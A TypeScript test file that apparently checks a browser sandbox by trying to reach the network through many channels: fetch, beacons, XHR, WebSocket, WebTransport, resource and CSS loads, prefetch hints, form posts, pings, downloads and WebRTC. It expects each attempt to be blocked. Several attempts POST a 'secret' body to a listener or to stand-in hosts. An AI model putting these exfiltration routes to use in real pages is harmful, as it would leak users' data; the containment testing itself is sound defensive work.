import type { Goal } from './attacker.ts';

/** Reaching the network, by every way a document has. */
export const networkGoals: readonly Goal[] = [
  {
    title: 'fetch a page, of this machine or of the world',
    act: (page, { listener }) =>
      page.evaluate(
        (urls) => Promise.all(urls.map((url) => evil.kept(fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })))),
        [listener, 'https://example.com/', 'http://[::1]/', '//example.com/', 'https://app.invalid/api'],
      ),
    outcome: Array(5).fill('kept in'),
  },
  {
    title: 'send a request that outlives the page',
    act: (page, { listener }) =>
      page.evaluate(async (url) => {
        const beacon = navigator.sendBeacon(url, 'secret');
        const kept = await evil.kept(fetch(url, { keepalive: true, mode: 'no-cors', method: 'POST', body: 'secret' }));
        return [typeof beacon, kept];
      }, listener),
    outcome: ['boolean', 'kept in'],
  },
  {
    title: 'use XMLHttpRequest',
    act: (page, { listener }) =>
      page.evaluate(
        (url) =>
          evil.kept(
            new Promise((got, no) => {
              const request = new XMLHttpRequest();
              request.onload = got;
              request.onerror = no;
              request.open('GET', url);
              request.send();
            }),
          ),
        listener,
      ),
    outcome: 'kept in',
  },
  {
    title: 'open a WebSocket, an event stream or a WebTransport',
    act: (page, { listener }) =>
      page.evaluate(async (url) => {
        const opens = (source: EventTarget): Promise<unknown> =>
          new Promise((got, no) => {
            source.addEventListener('open', got);
            source.addEventListener('error', no);
          });
        const tries = [
          () => opens(new WebSocket(url.replace('http', 'ws'))),
          () => opens(new EventSource(url)),
          () => new WebTransport('https://127.0.0.1:4433/').ready,
        ];
        return Promise.all(tries.map((each) => evil.kept((async () => each())())));
      }, listener),
    outcome: ['kept in', 'kept in', 'kept in'],
  },
  {
    title: 'load a picture, a style, a font, a script, a sound or an object',
    act: (page, { listener }) =>
      page.evaluate((url) => {
        const load = (tag: string, parts: Readonly<Record<string, string>>): Promise<'got' | 'kept in'> =>
          evil.kept(
            new Promise((got, no) => {
              const element = document.createElement(tag);
              for (const [name, value] of Object.entries(parts)) element.setAttribute(name, value);
              element.addEventListener('load', got);
              element.addEventListener('canplay', got);
              element.addEventListener('error', no);
              document.head.append(element);
            }),
          );
        return Promise.all([
          load('img', { src: `${url}a.png` }),
          load('link', { rel: 'stylesheet', href: `${url}a.css` }),
          load('audio', { src: `${url}a.ogg`, preload: 'auto' }),
          load('video', { poster: `${url}a.png`, src: `${url}a.webm` }),
          evil.later(() => document.createElement('script').setAttribute('src', `${url}a.js`)),
          evil.later(() => document.createElement('object').setAttribute('data', `${url}a.svg`)),
          evil.kept(new FontFace('evil', `url(${url}a.woff2)`).load()),
        ]);
      }, listener),
    outcome: [...Array(4).fill('kept in'), 'TypeError', 'TypeError', 'kept in'],
  },
  {
    title: 'ask the browser to fetch ahead: prefetch, preconnect, dns-prefetch, preload, prerender, icon, manifest',
    act: (page, { listener }) =>
      page.evaluate(async (url) => {
        const kinds = ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'];
        for (const rel of kinds) {
          const link = Object.assign(document.createElement('link'), { rel, href: url });
          if (rel.includes('preload')) link.setAttribute('as', 'script');
          document.head.append(link);
        }
        await evil.later(() => {
          const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
          rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
          document.head.append(rules);
        });
        return evil.kept(new Promise(() => undefined), 1000);
      }, listener),
    outcome: 'kept in',
  },
  {
    title: 'carry something out in a style: import, background, cursor',
    act: (page, { listener }) =>
      page.evaluate(async (url) => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body { background-image: url(${url}b.png); cursor: url(${url}c.png), auto; } @import url(${url}d.css);`);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
        const inline = Object.assign(document.createElement('style'), { textContent: `@import url(${url}e.css);` });
        document.head.append(inline);
        document.body.style.setProperty('list-style-image', `url(${url}f.png)`);
        const kept = await evil.kept(new Promise(() => undefined), 800);
        document.adoptedStyleSheets = document.adoptedStyleSheets.slice(0, -1);
        inline.remove();
        return kept;
      }, listener),
    outcome: 'kept in',
  },
  {
    title: 'send a form, follow a link with a ping, download a file',
    act: (page, { listener }) =>
      page.evaluate(async (url) => {
        const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
        document.body.append(form);
        form.submit();
        const link = Object.assign(document.createElement('a'), { href: '#x', ping: url });
        const download = Object.assign(document.createElement('a'), { href: url, download: 'x' });
        const blob = Object.assign(document.createElement('a'), { href: 'data:text/plain,secret', download: 'secret.txt' });
        for (const each of [link, download, blob]) {
          document.body.append(each);
          each.click();
        }
        const kept = await evil.kept(new Promise(() => undefined), 800);
        for (const each of [form, link, download, blob]) each.remove();
        return kept;
      }, listener),
    outcome: 'kept in',
  },
  {
    title: 'learn or reach an address by WebRTC',
    act: (page, { udp }) =>
      page.evaluate(
        (port) =>
          new Promise((done) => {
            const found: string[] = [];
            const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
            peer.createDataChannel('x');
            peer.onicecandidate = ({ candidate }) => candidate !== null && found.push(candidate.candidate);
            void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
            setTimeout(() => {
              peer.close();
              done(found);
            }, 1200);
          }),
        udp,
      ),
    outcome: [],
  },
];
